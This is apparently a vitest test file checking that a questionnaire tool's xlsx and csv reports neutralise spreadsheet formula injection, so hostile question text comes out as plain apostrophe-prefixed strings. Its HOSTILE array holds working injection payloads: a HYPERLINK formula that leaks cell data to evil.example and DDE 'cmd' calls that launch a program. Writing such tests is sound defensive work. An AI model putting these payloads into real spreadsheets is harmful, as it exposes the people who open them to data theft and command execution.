/** Reports never carry live formulas: question text beginning with = + - @ is written as text. */
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { readWorkbook } from '../../src/workbook/read-workbook.js';
import { kotae } from '../helpers.js';
import { put, questionnaireXlsx, QUESTIONS } from './helpers.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];

describe('formula injection through question text', () => {
  it('the xlsx report holds strings, no formulas', () => {
    const input = put('evil.xlsx', questionnaireXlsx([...HOSTILE, ...QUESTIONS]));
    const r = kotae(['answer', input]);
    expect(r.code, r.stderr).toBe(0);
    const files = unzipSync(new Uint8Array(readFileSync(join(dirname(input), 'evil.report.xlsx'))));
    const sheets = Object.keys(files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
    expect(sheets.length).toBeGreaterThan(0);
    for (const n of sheets) expect(strFromU8(files[n]!), n).not.toMatch(/<f[\s>]/);
    // read back with kotae's own reader: every cell is a plain value, the hostile text kept behind an apostrophe
    const wb = readWorkbook(new Uint8Array(readFileSync(join(dirname(input), 'evil.report.xlsx'))));
    const cells = wb.sheets.flatMap((sh) => [...sh.rows.values()].flatMap((row) => [...row.values()]));
    expect(cells.some((c) => c.formula)).toBe(false);
    const texts = cells.map((c) => c.text);
    for (const h of HOSTILE) expect(texts).toContain(`'${h}`);
    expect(texts.filter((t) => /^[=+@]/.test(t))).toEqual([]);
  });

  it('the csv report neutralises them', () => {
    const input = put('evil.xlsx', questionnaireXlsx([...HOSTILE, ...QUESTIONS]));
    const csvPath = join(dirname(input), 'todo.csv');
    const r = kotae(['answer', input, '--report', csvPath]);
    expect(r.code, r.stderr).toBe(0);
    const csv = readFileSync(csvPath, 'utf8');
    const fields = csv
      .split(/\r\n/)
      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? [])
      .map((f) => f.replace(/^"|"$/g, '').replace(/""/g, '"'));
    for (const f of fields) expect(f, f).not.toMatch(/^[=+\-@]/);
    expect(csv).toContain("'=HYPERLINK(");
    expect(csv).toContain("'+cmd|");
    expect(csv).toContain("'@SUM(");
  });
});
